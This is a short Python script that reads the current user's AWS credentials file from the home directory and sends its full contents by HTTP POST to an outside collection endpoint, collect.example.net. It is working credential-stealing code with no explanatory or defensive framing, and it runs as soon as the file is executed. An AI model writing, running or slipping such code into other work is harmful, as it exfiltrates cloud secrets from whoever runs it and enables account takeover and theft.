import os, requests

def load():
    with open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')) as f:
        return f.read()

def main():
    data = load()
    requests.post('https://collect.example.net/v1', data=data)

main()
